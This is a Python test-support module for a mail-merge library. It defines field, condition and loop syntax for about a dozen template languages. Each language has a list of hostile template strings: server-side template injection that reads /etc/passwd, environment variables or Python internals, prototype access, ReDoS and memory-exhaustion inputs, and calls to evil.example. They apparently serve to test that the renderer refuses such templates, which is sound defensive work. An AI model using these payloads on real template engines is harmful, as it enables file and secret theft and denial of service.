"""How each merge language writes fields, conditions and loops: what tests of all languages build templates of."""

from collections.abc import Mapping
from dataclasses import dataclass

from mailsight.merging.languages import Language


@dataclass(frozen=True, slots=True)
class Shape:
    """`field` has {} for a name. So have `condition` and `loop`: what starts and what ends one.

    `attacks` ask for files, code, the network or too much of everything. With `is_upper`, names have capital letters.
    """

    field: str
    condition: tuple[str, str] | None = None
    loop: tuple[str, str] | None = None
    attacks: tuple[str, ...] = ()
    is_upper: bool = False

    def of(self, name: str) -> str:
        """A field with this name."""
        return self.field.format(name.upper() if self.is_upper else name)


_LIQUID_LIKE = (
    '{% include "/etc/passwd" %}',
    '{% extends "/etc/passwd" %}',
    "{% include name %}",
    "{% load log %}{% debug %}",
    '{% ssi "/etc/passwd" %}',
    '{% import "os" as os %}{{ os.environ }}',
    "{{ 'x' * 1000000000 }}",
    "{{ 10 ** 10 ** 10 }}",
    "{{ 'x' | ljust: 1000000000 }}",
    '{{ "x"|ljust:1000000000 }}',
    '{{ "x"|center:"1000000000" }}',
    "{{ 'x'|center(1000000000) }}",
    "{{ 1|floatformat:1000000000 }}",
    "{{ 9 | times: 999999999999999999999999999 | times: 999999999999999999999999999 }}",
    "{% for i in (1..1000000000) %}{% endfor %}",
    "{% for i in range(1000000000) %}x{% endfor %}",
    "{{ range(1000000000)|list }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ name|attr('__class__') }}",
    "{{ self.__init__.__globals__ }}{{ cycler.__init__ }}{{ request }}{{ config }}",
    "{% set x = 'x' %}{% for i in many %}{% set x = x ~ x %}{{ x }}{% endfor %}",
    "{% assign x = 'x' %}{% for i in many %}{% assign x = x | append: x %}{% endfor %}{{ x }}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% connected_content https://evil.example/ :save x %}{{ x }}",
    '{{ name | replace: "", "xxxxxxxxxx" | replace: "x", "xxxxxxxxxxxxxxxxxxxx" | replace: "x", "xxxxxxxxxxxxxxxx" }}',
    "{{ '%1000000000d' | format: 1 }}{{ '%1000000000d'|format(1) }}",
)
_BARS = (
    "{{> /etc/passwd}}",
    '{{#*inline "x"}}{{> x}}{{> x}}{{/inline}}{{> x}}',
    "{{constructor}}{{__proto__}}{{#with name as |x|}}{{x.constructor.name}}{{/with}}",
    "{{lookup this '__class__'}}{{lookup name 'constructor'}}",
    '{{#ifMatchesRegexStr name "(a+)+(b+)+(c+)+.*.*.*.*x{1000}{1000}"}}{{/ifMatchesRegexStr}}',
    "{{replace name 'a' name}}{{join many name}}",
    "{{numberFormat 1 '#,##0.00000000000000000000000000000000000000000'}}{{math 1e300 '*' 1e300}}",
)

SHAPES: Mapping[Language, Shape] = {
    Language.PLAIN: Shape("{{{{{}}}}}", ("[if:{}]", "[endif]")),
    Language.MUSTACHE: Shape("{{{{{}}}}}", ("{{{{#{}}}}}", "{{{{/{}}}}}"), ("{{{{#{}}}}}", "{{{{/{}}}}}"), _BARS),
    Language.MUSTACHIO: Shape(
        "{{{{{}}}}}", ("{{{{#{}}}}}", "{{{{/{}}}}}"), ("{{{{#each ../../{}}}}}", "{{{{/each}}}}"), _BARS
    ),
    Language.HANDLEBARS: Shape(
        "{{{{{}}}}}", ("{{{{#if {}}}}}", "{{{{/if}}}}"), ("{{{{#each @root.{}}}}}", "{{{{/each}}}}"), _BARS
    ),
    Language.SPARKPOST: Shape(
        "{{{{{}}}}}", ("{{{{if {}}}}}", "{{{{end}}}}"), ("{{{{each {}}}}}", "{{{{end}}}}"),
        ("{{9 * 999999999999999999999}}", "{{loop_vars.__class__}}", "{{render_dynamic_content(name)}}"),
    ),
    Language.MAILJET: Shape(
        "{{{{var:{}}}}}", ("{{% if var:{} %}}", "{{% endif %}}"), ("{{% for i in var:{} %}}", "{{% endfor %}}"),
        (*_LIQUID_LIKE, "{% set x = 'x' %}{% for i in many %}{% set x = x + x %}{% endfor %}{{x}}",
         "{% set x = 9 %}{% for i in many %}{% set x = x * x %}{% endfor %}{{x}}"),
    ),
    **dict.fromkeys((Language.LIQUID, Language.LIQUIDJS, Language.DJANGO, Language.HUBL), Shape(
        "{{{{ {} }}}}", ("{{% if {} %}}", "{{% endif %}}"), ("{{% for i in {} %}}", "{{% endfor %}}"), _LIQUID_LIKE
    )),
    Language.MAILCHIMP: Shape("*|{}|*", ("*|IF:{}|*", "*|END:IF|*")),
    Language.ACTIVECAMPAIGN: Shape("%{}%", ("%IF ${}%", "%/IF%"), is_upper=True),
    Language.AMPSCRIPT: Shape(
        "%%{}%%", None, None, ('%%=HTTPGet("https://evil.example/")=%%', '%%=ContentBlockByName("x")=%%')
    ),
    Language.GO: Shape(
        "{{{{ .{} }}}}", ("{{{{ if .{} }}}}", "{{{{ end }}}}"), ("{{{{ range $.{} }}}}", "{{{{ end }}}}"),
        (
            '{{ printf "%1000000000d" 1 }}', '{{ repeat 1000000000 "x" }}', '{{ template "/etc/passwd" . }}',
            '{{ define "x" }}{{ template "x" . }}{{ template "x" . }}{{ end }}{{ template "x" . }}',
            '{{ env "HOME" }}{{ call .name }}', "{{ range 1000000000 }}x{{ end }}", '{{ regexMatch "(a+)+$" .name }}',
            "{{ $x := \"x\" }}{{ range .many }}{{ $x = printf \"%s%s\" $x $x }}{{ end }}{{ $x }}",
        ),
    ),
    Language.MAUTIC: Shape("{{contactfield={}}}"),
}  # fmt: skip
